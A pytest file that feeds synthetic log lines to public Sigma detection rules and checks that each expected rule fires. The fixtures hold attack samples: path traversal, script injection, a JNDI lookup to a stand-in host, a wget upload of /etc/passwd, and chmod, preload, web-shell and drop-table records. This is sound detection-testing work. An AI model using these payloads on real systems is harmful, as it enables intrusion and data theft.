"""Public Sigma rules fire on lines of text sources: log sources and fields are called as rules call them."""

from __future__ import annotations

import os
from functools import cache
from pathlib import Path

import pytest
from tests.collect.samples import read_bytes, rejected, table
from tests.collect.text_samples import AUDIT, ZEEK_DNS, ZEEK_HTTP, postgres

from waybill.detect.sigma import SigmaDetector
from waybill.model.protocols import Tables

pytestmark = pytest.mark.oracle

FOLDERS = ("rules", "rules-emerging-threats", "rules-threat-hunting")


@cache
def public() -> SigmaDetector:
    """Return a detector with all public rules."""
    folder = os.environ.get("WAYBILL_CORPORA")
    if not folder:
        pytest.skip("WAYBILL_CORPORA is not set: these tests read the public Sigma rules")
    return SigmaDetector([Path(folder) / "sigma" / one for one in FOLDERS], own=False)


def _web(request: str, agent: str = "Mozilla/5.0", status: int = 200) -> str:
    return f'203.0.113.9 - - [04/Mar/2026:05:06:07 +0000] "{request} HTTP/1.1" {status} 512 "-" "{agent}"'


def _proxy(method: str, address: str) -> str:
    return f"1772600767.123 100 10.1.2.3 TCP_MISS/200 5120 {method} {address} - HIER_DIRECT/203.0.113.7 text/html"


def _dns(query: str, kind: str = "A") -> str:
    return f"04-Mar-2026 05:06:07.123 CQ 10.1.2.3:53001 -> 10.0.0.53:53 UDP 45b {query}/IN/{kind}"


def _http(method: str, host: str, uri: str, agent: str, kind: str = "text/html") -> str:
    cells = ["1772600767.1", "C1", "10.0.0.1", "5353", "203.0.113.1", "80", "1", method, host, uri, "-", agent]
    return ZEEK_HTTP + "\t".join([*cells, "0", "512", "200", "(empty)", "-", "-", kind])


def _run(*arguments: str) -> str:
    words = " ".join(f'a{number}="{word}"' for number, word in enumerate(arguments))
    return f"type=EXECVE {AUDIT} argc={len(arguments)} {words}"


def _call(call: str, fields: str) -> str:
    return f'type=SYSCALL {AUDIT} arch=c000003e success=yes exit=0 {fields}\x1dSYSCALL={call} AUID="li.na"'


def _linux(program: str, message: str) -> str:
    return f"Mar  4 05:06:07 eda-1 {program}[7]: {message}"


def _cisco(command: str) -> str:
    return f"10.1.2.3 7: Mar  4 05:06:07.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:li.na  logged command:{command}"


CASES: dict[str, tuple[str, str]] = {
    "web: path traversal": (_web("GET /../../../../../lib/password"), "7745c2ea-24a5-4290-b680-04359cb84b35"),
    "web: scanner": (_web("GET /", "sqlmap/1.7"), "19aa4f58-94ca-45ff-bc34-92e533c0994a"),
    "web: script in a parameter": (_web("GET /q?x=<script>alert(1)</script>"), "65354b83-a2ea-4ea6-8414-3ab38be0d409"),
    "web: template injection": (_web("GET /?x=${jndi:ldap://e.example/a}"), "ada3bc4f-f0fd-42b9-ba91-e105e8af7342"),
    "web: look-up in a header": (_web("GET /", "${jndi:ldap://e.example/a}"), "9be472ed-893c-4ec0-94da-312d2765f654"),
    "web: device command": (_web("POST /mgmt/tm/util/bash"), "85254a62-22be-4239-b79c-2ec17e566c37"),
    "proxy: odd domain": (_proxy("GET", "http://files.zip/a.exe"), "00d0b5ab-1f55-4120-8e83-487c0a7baf19"),
    "proxy: messenger": (_proxy("POST", "https://api.telegram.org/bot1/x"), "b494b165-6634-483d-8c47-2026a6c52372"),
    "proxy: false update": (
        _proxy("GET", "http://a.example/flash_install.php"),
        "4922a5dd-6743-4fc2-8e81-144374280997",
    ),
    "dns: beacon": (_dns("aaa.stage.123456.example", "TXT"), "2975af79-28c4-4d2f-a951-9095f229df29"),
    "dns: messenger": (_dns("api.telegram.org"), "c64c5175-5189-431b-a55e-6d9882158251"),
    "zeek: mining pool": (
        ZEEK_DNS + "1772600767.1\tC1\t10.0.0.1\t5353\t10.0.0.53\t53\tudp\t7\tpool.minexmr.com\tA\tNOERROR\ta\t60.0\tF",
        "bf74135c-18e8-4a72-a926-0e4f47888c19",
    ),
    "zeek: the same in the category dns": (
        ZEEK_DNS + "1772600767.1\tC1\t10.0.0.1\t5353\t10.0.0.53\t53\tudp\t7\tpool.minexmr.com\tA\tNOERROR\ta\t60.0\tF",
        "b593fd50-7335-4682-a36c-4edcb68e4641",
    ),
    "zeek: put": (_http("PUT", "x.example", "/a", "Microsoft-WebDAV/10"), "705072a5-bb6f-4ced-95b6-ecfa6602090b"),
    "zeek: odd domain": (_http("GET", "x.tk", "/a.exe", "curl/8"), "68c2c604-92ad-468b-bf4a-aac49adad08c"),
    "zeek: program": (
        _http("GET", "x.example", "/webdav/a", "WebDAV", "application/x-dosexec"),
        "aac2fd97-bcba-491b-ad66-a6edf89c71bf",
    ),
    "auditd: upload": (_run("wget", "--post-file=/etc/passwd"), "cb39d16b-b3b6-4a7a-8222-1cf24b686ffc"),
    "auditd: rights": (_run("chmod", "777", "/srv"), "74c01ace-0152-4094-8ae2-6fd776dd43e5"),
    "auditd: preloading": (
        f'type=PATH {AUDIT} item=0 name="/etc/ld.so.preload" nametype=NORMAL',
        "4b3cb710-5e83-4715-8c45-8b2b5b3e5751",
    ),
    "auditd: module": (
        _call("finit_module", 'comm="insmod" exe="/usr/bin/kmod"'),
        "106d7cbd-80ff-4985-b682-a7043e5acb72",
    ),
    "auditd: ring buffer": (_call("syslog", 'a0=5 comm="dmesg"'), "eca5e022-d368-4043-98e5-9736fb01f72f"),
    "auditd: web shell": (
        _call("execve", 'euid=33 comm="sh" exe="/bin/sh"'),
        "c0d3734d-330f-4a03-aae2-65dacc6a8222",
    ),
    "auditd: firewall": (
        f"type=SERVICE_STOP {AUDIT} pid=1 uid=0 msg='unit=firewalld comm=\"systemd\" res=success'",
        "53059bc0-1472-438b-956a-7508a94a91f0",
    ),
    "auditd, as process_creation": (
        _call("execve", 'comm="base64" exe="/usr/bin/base64"') + "\n" + _run("base64", "-d", "/tmp/x"),
        "e2072cab-8c9a-459b-b63c-40ae79e27031",
    ),
    "sshd": (_linux("sshd", "Corrupted MAC on input"), "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"),
    "cron": (_linux("crontab", "(root) REPLACE (root)"), "af202fd3-7bff-4212-a25a-fb34606cfcbe"),
    "vsftpd": (_linux("vsftpd", "Connection refused: tcp_wrappers denial."), "377f33a1-4b36-4ee1-acee-1dbe4b43cfbe"),
    "cisco": (_cisco("no dot1x system-auth-control"), "ef0ff092-a24a-4fbc-beea-06c08d53e085"),
    "database": (postgres("statement: select * from x; drop table x"), "d84c0ded-edd7-4123-80ed-348bb3ccc4d5"),
    "database errors": (
        postgres("quoted string not properly terminated", level="ERROR", state="42601"),
        "8a670c6d-7189-4b1c-8017-a417ca84a086",
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_a_public_rule_fires(name: str, tmp_path: Path) -> None:
    line, rule = CASES[name]
    found = read_bytes(tmp_path, f"{line}\n".encode())
    assert rejected(found) == []
    fired = {finding.rule_id for finding in public().run(Tables(table(found)), {}).findings}
    assert rule in fired
